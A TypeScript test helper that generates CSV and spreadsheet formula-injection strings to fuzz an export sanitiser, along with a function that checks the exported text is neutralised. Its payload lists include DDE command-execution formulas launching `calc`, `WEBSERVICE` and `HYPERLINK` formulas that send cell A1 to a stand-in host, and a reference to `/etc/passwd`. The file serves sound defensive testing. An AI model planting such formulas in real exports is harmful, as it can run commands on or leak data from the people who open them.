import type { Chance } from '../money/chance.ts';

/** How spreadsheet programs begin what they work out, also in the wide and the typographic forms of other keyboards. */
const BEGINNINGS = ['=', '+', '-', '@', '|', '%', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212', '\ufe66', '\u207c', '{=', '=+', '-=', "'=", '"='];
const BEFORE = [
  '',
  '',
  '',
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u2003',
  '\u200b',
  '\ufeff',
  '\u202e',
  '\u0001',
  '"',
  "'",
  ';',
  ',',
  '\t;',
  '";',
  '"\r\n',
];
const BODIES = [
  '1+1',
  "cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'HYPERLINK("http://x.example/?"&A1;"klicka")',
  'WEBSERVICE("http://x.example/"&A1)',
  'IMPORTXML("http://x.example";"//a")',
  'SUM(A1:A9)',
  "'file:///etc/passwd'#$Sheet1.A1",
  'EXEC("calc")',
  'A1',
  '46 90 16 10 00',
  '2+3*cmd',
  '<f>1+1</f>',
  ']]></t></is></c><c><f>1+1</f>',
  '&#61;1+1',
  'åäö 𝛑 =1',
];
const MIDDLES = [';', ',', '\t', '\n', '\r\n', '";"', '","', '"\t"', '""', "'", '\u2028', '\u0085', '\u000b'];
const WORDS = ['Resa', 'Konsult AB', 'Faktura 12', 'x', 'Lön, mars', '<b>', '&amp;', '"Duo"'];

/** A text that a spreadsheet program, or who reads it, could take for something to work out or to fetch, or for more cells than one. */
export function hostile(chance: Chance): string {
  const evil = (): string => chance.one(BEFORE) + chance.one(BEGINNINGS) + chance.one(BODIES);
  const kind = chance.int(0, 9);
  if (kind < 6) return evil();
  if (kind < 9) return chance.one(WORDS) + chance.one(MIDDLES) + evil();
  return evil() + chance.one(MIDDLES) + evil();
}

const WORKED_OUT = /'+(?=[=+\-@|%\uff1d\uff0b\uff0d\uff20])/g;
/**
 * What may be changed of a text: control characters and line ends are a blank, none stands at either end, and an apostrophe keeps what would be
 * worked out from being so.
 */
export function isKept(text: string, shown: string): boolean {
  const plain = text.replace(/[\p{Cc}\p{Zl}\p{Zp}]+/gu, ' ').trim();
  return shown.replace(WORKED_OUT, '') === plain.replace(WORKED_OUT, '');
}
